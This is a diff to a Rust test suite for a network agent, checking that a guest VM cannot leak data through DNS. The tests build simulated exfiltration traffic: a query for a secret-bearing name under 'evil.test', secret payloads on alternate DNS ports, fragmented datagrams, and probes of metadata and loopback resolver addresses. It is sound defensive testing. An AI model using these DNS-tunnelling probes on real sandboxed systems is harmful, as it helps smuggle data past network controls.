@@ -1,166 +1,19 @@
 //! What a guest cannot tell the world by DNS (D-2, D-3): on the uplink there is nothing but the resolver's own questions
-//! for allowed names. The lists of networks allow everything here.
+//! for allowed names.
 
-use std::collections::BTreeMap;
 use std::net::IpAddr;
 
 use netagent_common::net::{ethertype, protocol, tcp_flag};
-use netagent_tests::deadline::{Deadline, SOON, wait_until};
-use netagent_tests::dnsmasq::Dnsmasq;
 use netagent_tests::fragment::fragments;
-use netagent_tests::guest::{Guest, Nic};
 use netagent_tests::name_server::{PORT, name_of, question};
-use netagent_tests::netns::NetNs;
-use netagent_tests::netns::join_by_veth;
 use netagent_tests::packet::{self, Packet, Segment, hex};
-use netagent_tests::raw::Raw;
-use netagent_tests::tap::Header;
-use netagent_tests::world::{HOST_V4, HOST_V6, SILENT, server_v4, server_v6};
-use serde_json::json;
+use netagent_tests::world::{server_v4, server_v6};
 
-use super::{Scene, UPSTREAM, host, texts};
-use crate::surroundings::is_of_the_host;
+use super::leak::{Leak, SECRET, contains};
+use crate::policy::site::put;
 
-/// What the guest wants to tell.
-const SECRET: &[u8] = b"s3cr3t0fTheGuest";
-const LAST: &[u8] = b"the last one";
 const PAST: [u16; 4] = [853, 8_853, 5_353, 5_355];
 const REFUSED: u8 = 5;
-
-struct Leak {
-    wire: Raw,
-    guest: Guest,
-    other: Guest,
-    scene: Scene<Dnsmasq>,
-    _management: NetNs,
-}
-
-impl Leak {
-    fn new() -> Self {
-        let records = [host("a.test", 0, 300)];
-        let scene = Scene::new(&texts(&records));
-        let management = NetNs::new();
-        let host = &scene.world.host;
-        join_by_veth((host, "mgmt0"), (&management, "mgmt1"));
-        host.ip("address add 10.77.0.1/24 dev mgmt0");
-        let spec = json!({
-            "name": "a",
-            "allowed_domains": ["a.test"],
-            "allowed_cidrs": ["0.0.0.0/0", "::/0"],
-        });
-        let guest = Guest::create_from(&scene.agent, host, &spec, Header::Vnet);
-        let other = Guest::create(&scene.agent, host, "b", Header::Vnet);
-        wait_until("the agent follows", SOON, || {
-            scene.explain("a", "10.77.0.9:7")["reason"] == "not_uplink"
-        });
-        Self {
-            wire: scene.world.wire(),
-            guest,
-            other,
-            scene,
-            _management: management,
-        }
-    }
-
-    fn nic(&self) -> &Nic {
-        self.guest.nic()
-    }
-
-    fn send(&self, bytes: Vec<u8>) {
-        self.nic().tap.send_bytes(bytes);
-    }
-
-    /// Places where a name server might be, of both families.
-    fn places(&self) -> Vec<IpAddr> {
-        let texts = [
-            "169.254.169.254",
-            "100.100.100.200",
-            "fd00:ec2::254",
-            "127.0.0.1",
-            "127.0.0.53",
-            "::1",
-            "10.77.0.1",
-            "10.77.0.9",
-            "224.0.0.251",
-            "224.0.0.252",
-            "ff02::fb",
-            "255.255.255.255",
-            "fe80::9",
-        ];
-        let mut places: Vec<IpAddr> = texts.map(|text| text.parse().unwrap()).into();
-        places.extend(SILENT);
-        places.extend([true, false].map(|is_v4| self.nic().gateway(is_v4)));
-        places.extend([true, false].map(|is_v4| self.other.nic().address(is_v4)));
-        places.extend([
-            IpAddr::from(server_v4(UPSTREAM)),
-            server_v6(UPSTREAM).into(),
-            server_v4(8).into(),
-            server_v6(8).into(),
-            HOST_V4.into(),
-            HOST_V6.into(),
-            self.other.nic().gateway_v4.into(),
-        ]);
-        places
-    }
-
-    /// What came out of the uplink: all of it, for a last datagram comes after it.
-    fn left(&self) -> Vec<Vec<u8>> {
-        self.send(packet::udp(&self.nic().to(SILENT[0]), (9_999, 9_999), LAST));
-        let mut left = Vec::new();
-        loop {
-            let received = self.wire.receive(Deadline::after(SOON));
-            let bytes = received.expect("the last one arrives").frame.completed();
-            if Packet::parse(&bytes).is_some_and(|packet| packet.payload == LAST) {
-                return left;
-            }
-            if !is_of_the_host(&bytes) {
-                left.push(bytes);
-            }
-        }
-    }
-
-    /// Nothing left, but questions for these names.
-    #[track_caller]
-    fn check_left(&self, names: &[&str]) {
-        let mut asked = Vec::new();
-        for bytes in self.left() {
-            assert!(!contains(&bytes, SECRET), "{}", hex(&bytes));
-            let packet = Packet::parse(&bytes).unwrap_or_else(|| panic!("{}", hex(&bytes)));
-            let upstream = (server_v4(UPSTREAM).into(), PORT);
-            let to = (packet.ends.dst, packet.ports.1);
-            assert_eq!(
-                (to, packet.protocol, packet.ends.src),
-                (upstream, protocol::UDP, HOST_V4.into()),
-                "{}",
-                hex(&bytes)
-            );
-            asked.extend(name_of(&packet.payload));
-        }
-        assert_eq!(asked, names);
-    }
-
-    /// The answer of the resolver to a question from this port: where it came from, and the message.
-    fn answer_to(&self, port: u16) -> (IpAddr, Vec<u8>) {
-        self.nic()
-            .tap
-            .receive_where(Deadline::after(SOON), |frame| {
-                let packet = Packet::parse(&frame.completed())?;
-                (packet.ports == (PORT, port)).then_some((packet.ends.src, packet.payload))
-            })
-    }
-
-    fn dropped(&self) -> u64 {
-        self.scene.agent.guest_drops("a").values().sum()
-    }
-
-    fn wait_for_drops(&self, count: u64) {
-        wait_until("everything is dropped", SOON, || self.dropped() >= count);
-    }
-}
-
-fn contains(bytes: &[u8], part: &[u8]) -> bool {
-    bytes.windows(part.len()).any(|window| window == part)
-}
 
 fn secret_name(zone: &str) -> String {
     format!("{}.{zone}", String::from_utf8_lossy(SECRET))
@@ -263,7 +116,6 @@ fn d2_other_kinds_of_dns_do_not_pass_over_udp_nor_tcp() {
 fn d2_fragments_of_questions_do_not_pass() {
     let leak = Leak::new();
     let payload = [question(7, "a.test"), SECRET.repeat(64)].concat();
-    let mut sent = BTreeMap::new();
     for (id, place) in (1..).zip(leak.places()) {
         let whole = packet::udp(&leak.nic().to(place), (5_000 + id, PORT), &payload);
         // The ports in the first of two, and in the first of very many.
@@ -272,7 +124,6 @@ fn d2_fragments_of_questions_do_not_pass() {
             pieces.iter().for_each(|piece| leak.send(piece.clone()));
             pieces.reverse();
             pieces.iter().for_each(|piece| leak.send(piece.clone()));
-            *sent.entry(place).or_insert(0) += pieces.len();
         }
     }
     leak.check_left(&[]);
@@ -374,4 +225,29 @@ fn d2_an_allowed_question_carries_nothing_beside_itself() {
         asked += 1;
     }
     assert!(asked > 0, "the world's server was asked");
+}
+
+/// What the tests above send does leave where nothing forbids it.
+#[test]
+fn without_a_list_of_names_the_same_reaches_the_world() {
+    let leak = Leak::new();
+    put(&leak.scene.agent, "a", "{}");
+    let mut frames = Vec::new();
+    for place in [IpAddr::from(server_v4(8)), server_v6(8).into()] {
+        let ends = leak.nic().to(place);
+        let query = question(7, &secret_name("evil.test"));
+        frames.push(packet::udp(&ends, (7_000, PORT), &query));
+        frames.push(packet::tcp(&ends, syn(PORT, 7_001), SECRET));
+        for (port, past) in (7_002..).zip(PAST) {
+            frames.push(packet::udp(&ends, (port, past), SECRET));
+            frames.push(packet::tcp(&ends, syn(past, port), SECRET));
+        }
+        let whole = packet::udp(&ends, (7_010, PORT), &SECRET.repeat(64));
+        frames.extend(fragments(&whole, 520, 9));
+    }
+    let count = frames.len();
+    frames.into_iter().for_each(|frame| leak.send(frame));
+    let left = leak.left();
+    let told = left.iter().filter(|bytes| contains(bytes, SECRET)).count();
+    assert_eq!(told, count, "{left:?}");
 }
